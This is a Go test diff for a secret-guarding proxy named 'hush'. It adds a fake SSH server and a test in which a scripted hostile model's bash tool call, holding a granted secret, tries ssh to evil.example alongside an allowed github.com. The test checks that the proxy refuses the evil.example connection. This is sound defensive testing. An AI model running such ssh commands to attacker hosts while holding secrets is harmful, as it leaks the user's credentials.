@@ -12,6 +12,7 @@ import (
 	"encoding/hex"
 	"fmt"
 	"io"
+	"net"
 	"net/http"
 	"net/http/cgi"
 	"net/http/httptest"
@@ -20,6 +21,7 @@ import (
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 )
 
 // TestEverydayClientsThroughTheProxy: what a developer's tool call
@@ -202,4 +204,79 @@ func serveFiles(files map[string][]byte) http.Handler {
 		}
 		w.Write(b)
 	})
+}
+
+// sshServer answers each connection with an SSH identification line and
+// keeps every byte the client sent: enough to see an ssh client arrive,
+// and where.
+func sshServer(t *testing.T) *rawServer {
+	t.Helper()
+	l, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	s := &rawServer{l: l}
+	t.Cleanup(func() { l.Close() })
+	go func() {
+		for {
+			c, err := l.Accept()
+			if err != nil {
+				return
+			}
+			s.mu.Lock()
+			s.accepts++
+			s.mu.Unlock()
+			go func() {
+				defer c.Close()
+				io.WriteString(c, "SSH-2.0-hushtest\r\n")
+				_ = c.SetReadDeadline(time.Now().Add(2 * time.Second))
+				b, _ := io.ReadAll(io.LimitReader(c, 64<<10))
+				s.mu.Lock()
+				s.raw.Write(b)
+				s.mu.Unlock()
+			}()
+		}
+	}()
+	return s
+}
+
+// TestSSHThroughHushConnect: ssh, which cannot use an HTTP proxy, reaches
+// an allowed host through `hush __connect` as its ProxyCommand, from a
+// call holding a secret bound to that host; the same call's ssh to
+// evil.example is refused at the proxy and its listener reads no byte.
+// Root and unprivileged.
+func TestSSHThroughHushConnect(t *testing.T) {
+	if _, err := exec.LookPath("ssh"); err != nil {
+		t.Skip("needs ssh: the openssh-client package")
+	}
+	for _, a := range attackers(t) {
+		t.Run(a.name, func(t *testing.T) {
+			t.Parallel()
+			hw := newHostileWorld(t, a)
+			github, evil := sshServer(t), sshServer(t)
+			hw.env = append(hw.env, "HUSH_TEST_HOSTS=github.com:"+port(github.addr())+"="+github.addr()+",evil.example:"+port(evil.addr())+"="+evil.addr())
+			ssh := `ssh -F /dev/null -o BatchMode=yes -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o ConnectTimeout=10 -o ProxyCommand="$HUSH_BIN __connect %h %p"`
+			script := ssh + ` -p ` + port(github.addr()) + ` git@github.com true > loot/ssh-github 2>&1
+` + ssh + ` -p ` + port(evil.addr()) + ` git@evil.example true > loot/ssh-evil 2>&1
+echo tunnelled`
+			if err := os.MkdirAll(filepath.Join(hw.project, "loot"), 0o755); err != nil {
+				t.Fatal(err)
+			}
+			model := hostileModel(t, fakeCall{"bash", map[string]any{"script": script, "env": map[string]string{"T": "${GRANTED}", "HUSH_BIN": hw.bin}}})
+			hw.configFor(model, "\n[secrets.GRANTED]\nhosts = [\"github.com\"]\n")
+			out, _ := hw.run(t, "ssh")
+			if !strings.Contains(out, "tunnelled") {
+				t.Fatalf("%s: the call did not run:\n%s", a.name, out)
+			}
+			if n, raw := github.seen(); n == 0 || !strings.Contains(raw, "SSH-2.0-") {
+				t.Errorf("%s: positive control: ssh did not reach github.com through hush __connect (%d connections, %q):\n%s", a.name, n, raw, hw.loot("ssh-github"))
+			}
+			if n, raw := evil.seen(); n != 0 || raw != "" {
+				t.Errorf("%s: ssh from a call holding a secret reached evil.example (%d connections, %q)", a.name, n, raw)
+			}
+			if got := hw.loot("ssh-evil"); !strings.Contains(got, "hush refused") && !strings.Contains(got, "403") {
+				t.Errorf("%s: ssh to evil.example did not say hush refused it: %q", a.name, got)
+			}
+		})
+	}
 }
